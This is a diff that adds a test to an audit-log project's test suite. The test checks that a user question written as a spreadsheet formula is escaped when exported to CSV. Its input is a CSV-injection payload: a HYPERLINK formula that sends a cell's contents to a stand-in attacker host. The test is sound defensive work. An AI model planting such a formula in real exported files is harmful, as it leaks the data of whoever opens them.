@@ -560,3 +560,22 @@ def test_postgres_appends_serialise_and_refuse_edits() -> None:
     first = log.verify().first
     assert first is not None and (first.seq, first.reason) == (3, "edited")
     engine.dispose()
+
+
+def test_a_question_that_reads_as_a_formula_is_text_in_the_csv(
+    trail: tuple[AuditLog, Path],
+) -> None:
+    """CSV injection: a user's question opened by an auditor in a spreadsheet is not run."""
+    log, path = trail
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"點此")'
+    log.record(OFFICER, evil, _answer(7), [], "ab" * 32)
+    out = path.parent / "f.csv"
+    today = _taipei_today()
+    result = _export(
+        path.parent, "--from", today, "--to", today, "--out", str(out), "--format", "csv"
+    )
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8").split("\n", 1)[1])))
+    assert rows[-1]["question"] == "'" + evil
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)
+    assert log.verify().ok  # the record itself is as asked
